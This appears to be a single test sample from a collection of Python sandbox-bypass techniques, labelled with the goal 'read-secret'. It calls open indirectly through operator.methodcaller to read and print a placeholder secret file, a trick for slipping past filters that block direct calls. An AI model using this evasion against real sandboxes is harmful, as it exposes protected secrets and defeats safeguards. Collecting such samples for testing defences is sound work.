# technique: operator.methodcaller('__call__', ...)
# goal: read-secret
# source: own analysis
import operator
print(operator.methodcaller('__call__', '@SECRET@')(open).read())
